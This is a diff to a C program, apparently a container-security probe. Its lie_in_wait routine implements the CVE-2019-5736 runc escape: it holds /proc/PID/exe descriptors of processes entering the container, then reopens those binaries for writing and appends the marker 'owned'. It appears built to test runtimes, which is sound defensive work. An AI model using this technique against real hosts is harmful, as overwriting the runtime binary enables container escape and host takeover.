@@ -275,16 +275,19 @@ static void walk(const char *directory) {
 /* Every file below DIRECTORY that can be opened for writing; nothing is written. */
 static void writable_files(char **argument) { walk(argument[0]); }
 
-/* CVE-2019-5736: for SECONDS wait for whoever enters, and hold the program that it was made of: once nobody executes it any more,
+static volatile sig_atomic_t enough = 0;
+static void stop(int number) { enough = number; }
+
+/* CVE-2019-5736: until SIGTERM wait for whoever enters, and hold the program that it was made of: once nobody executes it any more,
  * it can be opened for writing through the descriptor that we hold.  OWN is how paths of the container's own programs begin.
  * With VICTIM only programs with that in their path are held, and overwritten. */
 static void lie_in_wait(char **argument) {
-    time_t end = time(NONE) + atoi(argument[0]);
     int refused = 0, held = 0, fds[500];
     char path[64], target[4096];
+    signal(SIGTERM, stop);
     printf("ready\n");
     fflush(stdout);
-    while (time(NONE) < end && held < 500)
+    while (!enough && held < 500)
         for (pid_t pid = 1; pid < 400; pid++) {
             snprintf(path, sizeof(path), "/proc/%d/exe", pid);
             if (pid == getpid() || kill(pid, 0))
@@ -294,13 +297,13 @@ static void lie_in_wait(char **argument) {
             if (length < 0)
                 continue;
             target[length] = 0;
-            if (argument[2] ? !strstr(target, argument[2]) : !strncmp(target, argument[1], strlen(argument[1])))
+            if (argument[1] ? !strstr(target, argument[1]) : !strncmp(target, argument[0], strlen(argument[0])))
                 continue;
             int fd = open(path, O_RDONLY | O_CLOEXEC);
             printf("saw %s %s\n", target, fd < 0 ? strerrorname_np(errno) : "held");
             if (fd >= 0)
                 fds[held++] = fd;
-            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
+            if (!argument[1] && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
                 printf("traced %s\n", target);
         }
     sleep(1);
@@ -308,7 +311,7 @@ static void lie_in_wait(char **argument) {
         snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[number]);
         int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
         printf("%s\n", fd < 0 ? strerrorname_np(errno) : "worked");
-        if (fd >= 0 && argument[2] && write(fd, "owned", 5) != 5)
+        if (fd >= 0 && argument[1] && write(fd, "owned", 5) != 5)
             perror("write");
         close(fd);
     }
